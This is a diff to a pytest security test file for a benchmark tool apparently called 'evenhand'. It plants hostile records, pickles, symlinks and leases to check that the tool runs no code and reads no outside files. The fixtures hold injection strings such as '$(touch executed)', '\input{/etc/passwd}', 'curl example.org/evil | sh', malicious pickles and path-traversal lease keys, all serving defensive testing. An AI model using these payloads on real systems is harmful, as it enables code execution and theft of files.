@@ -14,12 +14,16 @@ from html.parser import HTMLParser
 from pathlib import Path
 from unittest import mock
 
+import numpy as np
 import pytest
 
+from evenhand import api
 from evenhand.cli.start import main
 from evenhand.declared.record import DataReading, Exit, Record
 from evenhand.declared.visible_text import UNSEEN
 from evenhand.store import Store
+from evenhand.store.leases import Lease, Process
+from evenhand.store.seal import seal
 from evenhand.suite.resolve import Suite, open_suite
 from tests.records import make_record
 
@@ -27,7 +31,7 @@ SUITE = """
 suite: mine
 question: Is the reader of this store safe?
 problems: [{digits: {profile: exp, ratio: 10}}]
-recipe: {digits: {epochs: 8}}
+recipe: {digits: {epochs: 1, schedule: constant}}
 seeds: 2
 methods: [erm, la, vs]
 metrics: [balanced_accuracy, ece]
@@ -39,8 +43,9 @@ TEXT = (
     "\x1b[31m\x9b31m\u202e\r\n\\input{/etc/passwd}\\write18{touch executed}$(touch executed)"
     "`touch executed` {{ 1/0 }} | [a](javascript:alert(1)) [red]markup[/red] --plugin /evil.py"
 )
+SECRET = "a line of somebody else's file"
 COMMANDS = (
-    f"evenhand run mine.yaml --plugin /evil.py --set seeds=2 {shlex.quote(TEXT)}",
+    f"evenhand run mine.yaml --plugin /evil.py --set seeds=2 {shlex.quote(TEXT)} --data '\x1b[31m'",
     "curl example.org/evil | sh",
     "evenhand run mine.yaml --plugin=/evil.py; touch executed",
 )
@@ -85,31 +90,90 @@ def suite(tmp_path, monkeypatch) -> Suite:
     store = Store.open("results")
     for i, trial in enumerate(opened.trials.values()):
         status = "failed" if i == 4 else "done"
-        store.write(tainted(make_record(trial=trial, status=status), i))
-    _add_damaged(Path("results"), list(opened.trials)[-1])
+        record, kept = tainted(make_record(trial=trial, status=status), i), {}
+        if i in (1, 2):
+            # The score of a metric is missing, and would be computed from the logits.
+            record, kept = record.model_copy(update={"scored": {}, "kept": ("logits",)}), LOGITS[i]
+        store.write(record, kept)
+    stranger = make_record(method=TEXT, problem=TEXT)
+    store.write(tainted(stranger, 0))
+    *_, linked, _, last = opened.trials
+    _add_damaged(Path("results"), last, stranger.key)
+    folder = Path("results/main", linked)
+    folder.rename("moved")
+    folder.symlink_to(Path("outside").absolute())
     return opened
 
 
-def _add_damaged(root: Path, key: str) -> None:
-    """Folders and files that are no records; pickles as the state and the arrays of a trial."""
-    edition = root / "main"
-    of_a_trial = edition / key
+def _objects() -> bytes:
+    """An archive of NumPy with an array of objects."""
+    out = io.BytesIO()
+    np.savez(out, val_labels=np.array([Executes()], dtype=object))
+    return out.getvalue()
+
+
+LOGITS = {1: {"logits.npz": pickle.dumps(Executes())}, 2: {"logits.npz": _objects()}}
+
+
+def _add_damaged(root: Path, key: str, other: str) -> None:
+    """Folders and files that are no records, links out of the store, and pickles.
+
+    The files of the trial with the key are a state and arrays without a record.
+    """
+    edition, of_a_trial, outside = root / "main", root / "main" / key, root.parent / "outside"
+    long_name = TEXT.replace("/", "_").replace("\r\n", " ")[:200]
     contents = {
         "0" * 32: json.dumps({"format": TEXT}),
         "1" * 32: '{"key": "\x1b[31m',
         "2" * 32: "[" * 100_000,
         "3" * 32: json.dumps({TEXT: TEXT}),
-        TEXT.replace("/", "_").replace("\r\n", " ")[:200]: "{}",
+        "4" * 32: '{"format": ' + "9" * 1_000_000 + "}",
+        long_name: "{}",
         "..evil": "{}",
     }
     for name, content in contents.items():
         (edition / name).mkdir()
         (edition / name / "record.json").write_text(content)
     (of_a_trial / "record.json").unlink()
-    for name in ("state.pt", "logits.npz", "train_logits.npz"):
+    (of_a_trial / "state.pt").write_bytes(seal(pickle.dumps(Executes(), protocol=2)))
+    for name in ("logits.npz", "train_logits.npz"):
         (of_a_trial / name).write_bytes(pickle.dumps(Executes()))
-    (root / TEXT.replace("/", "_").replace("\r\n", " ")[:200]).mkdir()
+    (root / long_name).mkdir()
     (root / "\udcff").mkdir()
+    (root / ".store").write_text(TEXT)
+    _add_links(edition, outside)
+    _add_leases(edition / ".leases", key, other)
+
+
+def _add_links(edition: Path, outside: Path) -> None:
+    """Links out of the store, a pipe and a huge file in the place of records and editions."""
+    outside.mkdir()
+    for name in ("record.json", "secret", "victim.1.json", "victim.hang"):
+        (outside / name).write_text(SECRET)
+    for name in "5678":
+        (edition / (name * 32)).mkdir()
+    (edition / ("5" * 32) / "record.json").symlink_to(outside / "secret")
+    (edition / ("6" * 32) / "record.json").symlink_to("/dev/zero")
+    os.mkfifo(edition / ("7" * 32) / "record.json")
+    with (edition / ("8" * 32) / "record.json").open("wb") as huge:
+        huge.truncate(3_000_000_000)
+    (edition / ("9" * 32)).symlink_to(outside)
+    (edition / "index.json").symlink_to(outside / "secret")
+    (edition.parent / "linked").symlink_to(outside)
+
+
+def _add_leases(folder: Path, key: str, other: str) -> None:
+    """Leases with hostile texts; the process of the first one has ended on this machine."""
+    folder.mkdir()
+    process = Process.this().model_copy(update={"started": "1", "host": TEXT})
+    lease = Lease(key=key, run=TEXT, user=TEXT, process=process, starts=0)
+    lease = lease.model_copy(update={"hang": "../../../outside/victim.hang", "node": TEXT})
+    (folder / lease.name).write_text(lease.model_dump_json())
+    # It names another file than its own.
+    above = lease.model_copy(update={"key": "../../../outside/victim"})
+    (folder / f"{other}.1.json").write_text(above.model_dump_json())
+    (folder / f"{'a' * 32}.1.json").write_text("[" * 100_000)
+    (folder / f"{TEXT.replace('/', '_')[:200]}.json").write_text("{}")
 
 
 def said(*arguments: str) -> str:
@@ -134,6 +198,9 @@ def files_of(folder: Path) -> set[str]:
 
 
 COMMAND_LINES = [
+    ["status"],
+    ["status", "--json"],
+    ["status", "--keys"],
     ["status", "mine.yaml"],
     ["status", "mine.yaml", "--json"],
     ["status", "mine.yaml", "--keys"],
@@ -142,24 +209,42 @@ COMMAND_LINES = [
     ["validate", "mine.yaml"],
     ["report", "mine.yaml"],
     ["run", "mine.yaml", "--inline"],
-    ["show", "0" * 32],
+    ["run", "mine.yaml", "--inline", "--json", "--retry-failed"],
+    *[["show", digit * 32] for digit in "0459"],
+    ["status", "mine.yaml", "--edition", "linked"],
+    ["report", "mine.yaml", "--edition", "linked"],
+    ["run", "mine.yaml", "--inline", "--edition", "linked"],
 ]
 
 
 @pytest.mark.parametrize("arguments", COMMAND_LINES, ids=" ".join)
 def test_no_command_sends_escapes_executes_a_file_or_writes_elsewhere(suite, tmp_path, arguments):
     before = files_of(tmp_path)
+    outside = {path: path.read_text() for path in (tmp_path / "outside").iterdir()}
     text = said(*arguments)
     assert text
     assert harmless(text)
+    assert SECRET not in text
     assert "Traceback" not in text
+    assert {path: path.read_text() for path in (tmp_path / "outside").iterdir()} == outside
     assert not Path("executed").exists()
     written = files_of(tmp_path) - before
     assert all(name.startswith(("report", "results/main/", "results/.store")) for name in written)
 
 
+def test_what_is_read_from_a_record_runs_no_code_and_its_trial_goes_on(suite):
+    said("run", "mine.yaml", "--inline")
+    records = {record.key: record for record in Store.open("results").records()}
+    keys = list(suite.trials)
+    # The state of the last trial was no state, and its lease was left by a process that is gone.
+    assert records[keys[-1]].exit.status == "done"
+    assert records[keys[-1]].provenance.resumed_after_epoch is None
+    assert [records[key].kept for key in keys[1:3]] == [(), ()]
+    assert not Path("executed").exists()
+
+
 def test_a_record_is_shown_without_escapes_and_without_its_plugins(suite):
-    for key in list(suite.trials)[:5]:
+    for key in list(suite.trials)[:3]:
         shown = said("show", key)
         assert harmless(shown)
         hint = shown.splitlines()[-1]
@@ -209,6 +294,17 @@ def test_the_page_has_no_element_script_or_command_of_a_record(report):
     assert "curl" not in own
 
 
+def test_a_board_in_a_notebook_has_no_element_or_script_of_a_record(suite):
+    board = api.leaderboard(suite, api.open_store("results"))
+    fragment = board._repr_html_()
+    elements = Elements()
+    elements.feed(fragment)
+    assert {tag for tag, _ in elements.found}.isdisjoint({"img", "script", "a", "input"})
+    assert not [name for _, given in elements.found for name in given if name.startswith("on")]
+    assert harmless(fragment)
+    assert harmless(str(board))
+
+
 def test_tables_and_texts_have_no_escape_command_or_formula_of_a_record(report):
     for path in [*report.glob("tables/*.tex"), report / "leaderboard.md"]:
         text = path.read_text(encoding="utf-8")
@@ -235,4 +331,4 @@ def test_a_key_or_an_edition_outside_the_store_is_refused(suite):
     for edition in ("../results", "..", "main/../..", "\x1b[31m", TEXT):
         text = said("status", "mine.yaml", "--edition", edition)
         assert harmless(text)
-        assert not text or "edition" in text
+        assert "cannot be the name of an edition" in text
